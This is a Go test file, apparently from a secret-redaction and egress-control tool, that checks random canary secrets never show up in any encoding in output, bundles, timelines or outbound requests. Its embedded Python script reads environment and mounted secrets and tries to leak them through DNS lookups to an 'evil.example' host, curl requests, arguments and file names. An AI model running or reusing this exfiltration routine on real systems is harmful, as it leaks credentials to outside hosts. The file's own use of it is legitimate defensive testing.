package main

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"html"
	"io/fs"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
)

// strew is a command that puts its secrets wherever it can: printed in every encoding and every
// encoding of that, in pieces of random length, in arguments, names of files, questions and URLs.
const strew = `
import base64, html, json, os, random, subprocess, sys, urllib.parse
values = [os.environ["ONE"], open("/run/secrets/two").read(), open("/run/secrets/deep/three").read()]
def encodings(b):
    s = b.decode("latin-1")
    yield b
    for pad in range(3):
        yield base64.b64encode(b"x" * pad + b + b"y" * random.randrange(4)); yield base64.urlsafe_b64encode(b"x" * pad + b)
    yield b.hex().encode(); yield b.hex().upper().encode(); yield base64.b32encode(b)
    yield urllib.parse.quote(b, safe="").encode(); yield "".join("%%%02X" % c for c in b).encode()
    yield json.dumps(s).encode("latin-1", "replace"); yield "".join("\\u%04x" % ord(c) for c in s).encode()
    yield html.escape(s).encode("latin-1", "replace"); yield "".join("&#%d;" % ord(c) for c in s).encode()
    yield s.encode("utf-16-le"); yield s.replace("'", "'\\''").encode("latin-1", "replace")
def write(fd, b):
    while b:
        n = random.randrange(1, 40)
        os.write(fd, b[:n]); b = b[n:]
for v in values:
    for once in encodings(v.encode()):
        write(1, b"<" + once + b">\n"); write(2, b"<" + once + b">\n")
        for twice in encodings(once):
            os.write(1, b"{" + twice + b"}\n")
    for form in (v, v.encode().hex(), base64.b64encode(v.encode()).decode(), urllib.parse.quote(v, safe="")):
        subprocess.run(["/bin/true", "--token=" + form, form])
        open("file-" + form.replace("/", "_"), "w").write(form)
    label = v.encode().hex()
    subprocess.run(["getent", "hosts", label[:60] + ".evil.example"])
    subprocess.run(["getent", "hosts", ".".join(label[i:i+20] for i in range(0, len(label), 20)) + ".allowed.site.example"])
    for u in ("https://api.site.example/v1/" + urllib.parse.quote(v, safe=""), "http://plain.site.example/?q=" + base64.urlsafe_b64encode(v.encode()).decode()):
        subprocess.run(["curl", "-sS", "-m", "5", "-o", "/dev/null", "-H", "x-other: " + label, u])
    subprocess.run(["curl", "-sS", "-m", "5", "-k", "-o", "/dev/null", "https://" + label[:60] + ".wild.site.example/"])
print("all strewn")
`

// needlesOf are forms of a value that must be nowhere. They are made here again, not by the redactor.
func needlesOf(v string) map[string][]byte {
	b := []byte(v)
	quoted, _ := json.Marshal(v)
	wide := func() (out []byte) {
		for _, u := range utf16.Encode([]rune(v)) {
			out = append(out, byte(u), byte(u>>8))
		}
		return out
	}()
	all := map[string][]byte{
		"raw": b, "hex": []byte(hex.EncodeToString(b)), "HEX": []byte(strings.ToUpper(hex.EncodeToString(b))), "base32": []byte(base32.StdEncoding.EncodeToString(b)[:len(b)*8/5]),
		"query": []byte(url.QueryEscape(v)), "path": []byte(url.PathEscape(v)), "json": quoted[1 : len(quoted)-1], "html": []byte(html.EscapeString(v)), "utf-16": wide,
		"hex of hex": []byte(hex.EncodeToString([]byte(hex.EncodeToString(b)))),
	}
	for pad := range 3 {
		for name, enc := range map[string]*base64.Encoding{"base64": base64.RawStdEncoding, "base64url": base64.RawURLEncoding} {
			whole := enc.EncodeToString(append(make([]byte, pad), b...))
			once := whole[(8*pad+5)/6 : 8*(pad+len(b))/6] // digits that the value alone decides
			all[name+" at "+string(rune('0'+pad))] = []byte(once)
			all["hex of "+name+" at "+string(rune('0'+pad))] = []byte(hex.EncodeToString([]byte(once)))
		}
	}
	return all
}

// TestCanaries: random values, in all deliveries, are in no byte that Custody writes or shows.
func TestCanaries(t *testing.T) {
	d, w := newSite(t)
	alphabets := []string{"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", `abcDEF0123456789+/=_-.~!@$%^&*()"<>?\;:,|`, "0123456789abcdef-"}
	values := make([]string, len(alphabets))
	for i, letters := range alphabets {
		for range 24 + rand.IntN(20) {
			values[i] += string(letters[rand.IntN(len(letters))])
		}
	}
	t.Logf("values %q", values)
	d.env = append(d.env, "ONE="+values[0], "TWO="+values[1], "THREE="+values[2], "HEADER=header-"+values[0], "TMPDIR="+t.TempDir())
	d.project(`version: 1
` + worldResolvers + `secrets:
  one: {from: "env:ONE", deliver: {env: ONE}}
  two: {from: "env:TWO", deliver: {file: two}}
  three: {from: "env:THREE", deliver: {env: THREE, file: deep/three}}
  header: {from: "env:HEADER", deliver: {header: x-api-key, env: HEADER}}
egress:
  - {allow: api.site.example, http: {}, credential: header}
  - {allow: allowed.site.example, http: {}}
  - {allow: plain.site.example, ports: [tcp/80]}
  - {allow: "*.wild.site.example"}
`)
	work := filepath.Join(d.dir, "work")
	if err := os.Mkdir(work, 0o755); err != nil {
		t.Fatal(err)
	}
	d.write(filepath.Join(work, "strew.py"), strew)
	s := d.must(0, "run", "--secret", "one,two,three,header", "--workdir", work, "--", "python3", "strew.py")
	d.contains(s.stdout, "all strewn", "[REDACTED:one:", "[REDACTED:two:", "[REDACTED:three:")
	bundle := filepath.Join(d.dir, "bundle")
	d.must(0, "bundle", "last", "-o", bundle)
	exported, err := os.ReadFile(bundle)
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string][]byte{"stdout": []byte(s.stdout), "stderr": []byte(s.stderr), "the bundle": exported}
	for _, args := range [][]string{{"timeline", "last"}, {"timeline", "last", "--json"}, {"timeline", "last", "--at", "+1h"}} {
		texts[strings.Join(args, " ")] = []byte(d.must(0, args...).stdout)
	}
	err = filepath.WalkDir(d.home, func(path string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		texts[path], err = os.ReadFile(path)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range append(values, "header-"+values[0]) {
		for form, needle := range needlesOf(v) {
			for where, text := range texts {
				if i := bytes.Index(bytes.ToLower(text), bytes.ToLower(needle)); i >= 0 {
					t.Errorf("a value as %s is in %s: %.200q", form, where, text[max(0, i-60):])
				}
			}
		}
	}
	for _, r := range w.Requests() {
		if strings.Contains(r.Host, "evil") {
			t.Errorf("got out: %+v", r)
		}
	}
	rules := map[string]bool{}
	for _, f := range d.findings("last") {
		rules[string(f.Rule)] = true
	}
	if !rules["secret-in-output"] && !rules["secret-in-dns"] {
		t.Errorf("findings: %v", rules)
	}
	d.verified("last")
}
